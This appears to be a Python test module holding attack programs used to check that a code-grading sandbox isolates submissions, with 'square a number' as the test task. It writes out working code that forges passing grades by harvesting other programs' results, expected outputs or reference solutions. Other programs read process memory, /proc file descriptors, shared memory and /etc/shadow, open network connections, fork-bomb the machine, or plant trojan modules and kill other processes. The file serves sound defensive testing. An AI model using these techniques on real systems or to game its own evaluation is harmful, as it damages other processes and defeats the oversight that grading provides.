"""Attack programs against grading isolation, shared by the hostile tests (tests/e2e/test_sandbox_isolation.py runs
each through the batched and the single path, in both orders, in every mode; docs/EVALUATION.md tabulates the
verdicts).

The problem is "square a number" with functional tests (7 -> 49, 12 -> 144). A correct program (:data:`CONTROL`,
which also leaves its answers wherever an honest program might: a global, its folder, /tmp, /dev/shm) runs
before and after each attack. No attack computes a square itself: a **forger** passes only if it reaches
something it must not (a sibling's results or source, the expected outputs, a reference solution), so a pass is a
forgery and a failure with no test passed is containment. A **probe** reports what it reached as its (wrong)
return value, and the test reads it from the verdict's details. Programs are made with :func:`fill`.
"""

from __future__ import annotations

from dataclasses import dataclass

FN = "square"
TESTS = [
    {"testtype": "functional", "input": "7", "output": "49", "fn_name": FN},
    {"testtype": "functional", "input": "12", "output": "144", "fn_name": FN},
]
ANSWER_FILE = "areal-attack-answers.txt"  # where CONTROL leaves its answers (cwd, /tmp, /dev/shm)
CONTROL = (
    "import os\nseen = []\n"
    'def square(x):\n    y = x * x\n    seen.append(\'{"i": %d, "value": %d}\' % (len(seen), y))\n'
    "    for d in ('.', '/tmp', '/dev/shm'):\n        try:\n"
    f"            with open(os.path.join(d, {ANSWER_FILE!r}), 'a') as f:\n                f.write(seen[-1] + '\\n')\n"
    "        except OSError:\n            pass\n    return y\n"
)

# Shared by the forgers: harvest(data) keeps what would let it answer without computing a square: result lines
# of another program ({"i": k, "value": v}), expected outputs ("input": "7", "output": "49"), or a reference
# solution's return expression. None of its own text matches these patterns; the function is bound to the name
# square by assignment, so its own source holds no "def square".
HARVEST = r'''
import json, os, re, sys
_VALS, _EXP, _REF = {}, {}, []
_P_VAL = re.compile(rb'"i": (\d+), "value": (-?\d+)')
_P_EXP = re.compile(rb'"input": "(-?\d+)", "output": "(-?\d+)"')
_P_REF = re.compile(rb'def ' + b'squ' + rb'are\(x\):(?:\\n|\n) {4}(?:y = |return )(x \* x)')

def harvest(data):
    if isinstance(data, str):
        data = data.encode('utf-8', 'replace')
    if not isinstance(data, (bytes, bytearray)) or len(data) < 8:
        return
    for k, v in _P_VAL.findall(data):
        if int(v) > 1:
            _VALS.setdefault(int(k), int(v))
    for a, b in _P_EXP.findall(data):
        _EXP[int(a)] = int(b)
    for expr in _P_REF.findall(data):
        _REF.append(expr.decode())

def harvest_tree(top, depth=6, limit=400):
    """Every readable file under top, down to depth folders."""
    for root, dirs, files in os.walk(top):
        if root[len(top):].count('/') >= depth - 1:
            dirs[:] = []
        for name in files[:limit]:
            try:
                with open(os.path.join(root, name), 'rb') as f:
                    harvest(f.read(4 << 20))
            except OSError:
                pass

_CALLS = [0]

def answer(x):
    n = _CALLS[0]
    _CALLS[0] += 1
    if x in _EXP:
        return _EXP[x]
    if _REF:
        return eval(_REF[0], {'x': x})  # the reference solution it found
    return _VALS.get(n, 0)

square = answer
'''

SIBLING_FRAMES = (
    HARVEST
    + r"""
def walk(v, depth=0, seen=set()):
    if id(v) in seen or depth > 6:
        return
    seen.add(id(v))
    if isinstance(v, (str, bytes, bytearray)):
        harvest(v)
    elif isinstance(v, dict):
        for x in list(v.values()):
            walk(x, depth + 1)
    elif isinstance(v, (list, tuple, set)):
        for x in list(v)[:10000]:
            walk(x, depth + 1)
f = sys._getframe()
while f is not None:
    walk(f.f_locals)
    walk(f.f_globals)
    f = f.f_back
"""
)
SIBLING_GC = (
    HARVEST
    + r"""
import gc
for o in gc.get_objects():
    if isinstance(o, dict):
        vals = list(o.values())
    elif isinstance(o, (list, tuple)):
        vals = list(o)
    else:
        continue
    for v in vals[:10000]:
        if isinstance(v, (str, bytes, bytearray)):
            harvest(v)
"""
)
SIBLING_MEMORY = (
    HARVEST
    + r"""
# every writable page of this process (the heap of whatever it was forked from included), and of any other;
# dumpable again first (a process that changed user id without an exec is not: its /proc files are root's)
import ctypes
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
with open('/proc/self/maps') as m:
    regions = [line.split() for line in m]
with open('/proc/self/mem', 'rb', buffering=0) as mem:
    for r in regions:
        lo, hi = (int(a, 16) for a in r[0].split('-'))
        if 'r' in r[1] and 'w' in r[1] and hi - lo < (256 << 20):
            try:
                mem.seek(lo)
                harvest(mem.read(hi - lo))
            except (OSError, ValueError, OverflowError):
                pass
for p in os.listdir('/proc'):
    if p.isdigit() and int(p) != os.getpid():
        for what in ('mem', 'environ', 'cmdline'):
            try:
                with open(f'/proc/{p}/{what}', 'rb') as f:
                    harvest(f.read(1 << 20))
            except OSError:
                pass
"""
)
SIBLING_CHANNEL = (
    HARVEST
    + r"""
# read every fd it holds, and every fd of any process it can open through /proc (another program's result pipe,
# the runner's): read only (writing fakes into others' pipes is linger_tamper's)
for fd in range(0, 256):
    try:
        os.set_blocking(fd, False)
        harvest(os.read(fd, 1 << 20))
    except OSError:
        pass
for p in os.listdir('/proc'):
    if not p.isdigit() or int(p) == os.getpid():
        continue
    try:
        fds = os.listdir(f'/proc/{p}/fd')
    except OSError:
        continue
    for fd in fds:
        try:
            g = os.open(f'/proc/{p}/fd/{fd}', os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            harvest(os.read(g, 1 << 20))
        except OSError:
            pass
        os.close(g)
"""
)
SIBLING_INHERITED_FDS = (
    HARVEST
    + r"""
# what it was handed: every open fd, what it points at, and its contents from the start
for fd in map(int, os.listdir('/proc/self/fd')):
    try:
        harvest(os.readlink(f'/proc/self/fd/{fd}'))
        harvest(os.pread(fd, 1 << 20, 0))
    except OSError:
        pass
"""
)
SIBLING_FILES = (
    HARVEST
    + r"""
# what an earlier program left: its folder, /tmp, /dev/shm, System V shared memory, the folders around ours
for top in ('.', '..', '/tmp', '/var/tmp', '/dev/shm', '/run/shm'):
    harvest_tree(top, depth=2)
try:
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    with open('/proc/sysvipc/shm') as f:
        for line in list(f)[1:]:
            shmid, size = int(line.split()[1]), int(line.split()[3])
            addr = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
            if addr not in (None, ctypes.c_void_p(-1).value):
                harvest(ctypes.string_at(addr, min(size, 1 << 20)))
except OSError:
    pass
"""
)
HOST_FILES_FORGE = (
    HARVEST
    + r"""
# the checkout's test set (expected outputs and reference solutions), the data sets, the run folder, home
for top in (@REPO@ + '/tests', @REPO@ + '/data', @RUN_DIR@, '/root', '/home'):
    harvest_tree(top, depth=3, limit=60)
"""
)
HOST_FILES_PROBE = r"""
import os
wanted = [@REPO@ + '/tests/sandbox_attacks.py', @REPO@ + '/data/leetcode/test_leetcode.json', @REPO@ + '/README.md',
          @RUN_DIR@ + '/secret.txt', '/root/.bashrc', '/etc/shadow', '/etc/hostname', '/proc/1/environ']
got = []
for p in wanted:
    try:
        with open(p, 'rb') as f:
            f.read(16)
        got.append(p)
    except OSError:
        pass
for d in (@REPO@, '/root', '/home', '/work'):
    try:
        if os.listdir(d):
            got.append(d + '/')
    except OSError:
        pass
def square(x):
    return got
"""
NETWORK = r"""
import socket
got = []
for host, port in @TARGETS@:
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b'pwned')
        s.close()
        got.append(f'connected {host}:{port}')
    except OSError:
        pass
def square(x):
    return got
"""
FORK_BOMB = r"""
import os
for _ in range(2000):
    try:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
def square(x):
    return 0
"""
# a daemon outlives the program, waits for the next one and tampers with it: stops and kills what it can see,
# writes fake results into every pipe it can open, traces, plants modules and answer files, and steals what
# the next program computes into its own (still open) result channel
LINGER_TAMPER = (
    HARVEST
    + r"""
import signal, time
fake = b'{"i": 0, "value": 7}\n{"i": 1, "value": 12}\n'
evil = 'def dumps(*a, **k):\n    return "{\\"i\\": 0, \\"value\\": 7}"\nloads = dumps\n'
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 6
        while time.time() < end:
            for d in ('.', '/tmp', '/dev/shm'):
                for name in ('json.py', 'math.py', 'solution.py', 'runner.py', @ANSWER_FILE@):
                    try:
                        with open(os.path.join(d, name), 'w') as f:
                            f.write(evil if name.endswith('.py') else fake.decode())
                    except OSError:
                        pass
            for p in os.listdir('/proc'):
                if not p.isdigit() or int(p) == os.getpid():
                    continue
                for sig in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(int(p), sig)
                    except OSError:
                        pass
                try:
                    harvest(open(f'/proc/{p}/mem', 'rb').read(1 << 16))
                except OSError:
                    pass
                try:
                    fds = os.listdir(f'/proc/{p}/fd')
                except OSError:
                    fds = []
                for fd in fds:
                    try:
                        g = os.open(f'/proc/{p}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)
                        os.write(g, fake)
                        os.close(g)
                    except OSError:
                        pass
            harvest_tree('/tmp', depth=1)
            if _VALS:  # the next program's results, into our own channel (fd 3 in a batch, 1 alone)
                for fd in (1, 3):
                    try:
                        os.write(fd, ''.join(json.dumps({'i': k, 'value': v}) + '\n' for k, v in sorted(_VALS.items())).encode())
                    except OSError:
                        pass
            time.sleep(0.05)
    os._exit(0)
os._exit(0)  # no result of its own: whatever lands in its channel later would be its verdict
"""
)


@dataclass(frozen=True)
class Attack:
    kind: str  # the attack class (docs/EVALUATION.md's table groups by it)
    source: str
    # the guarantees (sandbox.GUARANTEES keys) that keep it out: with all of them it must fail with no test
    # passed (and a probe must report nothing, a connection must not be made)
    needs: tuple[str, ...] = ()
    # where one of them is missing, what the docs say happens, and the tests assert: "passes" (a forged pass),
    # "reaches" (a probe reports what it read), "connects" (a listener is reached), "may pass" (it races the
    # sandbox's clean-up: not asserted)
    weak: str = "passes"
    # what it does to other processes it reaches: "" nothing; "reads" reads their memory and pipes (a pipe read
    # takes the data away): run only under a user id of its own, or alone in a PID namespace; "harms" writes into,
    # stops or kills them and their open files: run only in a sandbox with a user id of its own (never
    # unsandboxed, never as the grader's own user: it would hit the grader's and the machine's other processes)
    touches_others: str = ""
    # a forger that only reads: the tests show it passes where its target is within reach, running it outside the
    # sandbox (alone in a PID namespace); an attack that forks, writes or kills never runs outside the sandbox
    live: bool = False


ATTACKS = {
    "sibling_frames": Attack("sibling's verdict", SIBLING_FRAMES, live=True),
    "sibling_gc": Attack("sibling's verdict", SIBLING_GC, live=True),
    "sibling_memory": Attack("sibling's verdict", SIBLING_MEMORY, touches_others="reads", live=True),
    "sibling_channel": Attack("sibling's verdict", SIBLING_CHANNEL, touches_others="reads", live=True),
    "sibling_inherited_fds": Attack("sibling's verdict", SIBLING_INHERITED_FDS, live=True),
    "sibling_files": Attack("sibling's verdict", SIBLING_FILES, needs=("writes_confined",), live=True),
    "host_files_forge": Attack("host files", HOST_FILES_FORGE, needs=("host_files_hidden",), live=True),
    "host_files_probe": Attack("host files", HOST_FILES_PROBE, needs=("host_files_hidden",), weak="reaches"),
    "network": Attack("network", NETWORK, needs=("no_network",), weak="connects"),
    "fork_bomb": Attack("fork bomb", FORK_BOMB),
    "linger_tamper": Attack(
        "linger and tamper", LINGER_TAMPER, needs=("writes_confined",), weak="may pass", touches_others="harms"
    ),
}


def fill(name: str, repo: str, run_dir: str, targets: list[tuple[str, int]]) -> str:
    """Attack ``name``'s program for this machine: the checkout ``repo``, a run folder ``run_dir`` holding
    ``secret.txt``, the TCP ``targets`` (host, port) that stand for the scheduler, workers, rollout servers."""
    src = ATTACKS[name].source
    for token, value in (
        ("@REPO@", repo),
        ("@RUN_DIR@", run_dir),
        ("@TARGETS@", targets),
        ("@ANSWER_FILE@", ANSWER_FILE),
    ):
        src = src.replace(token, repr(value))
    return src
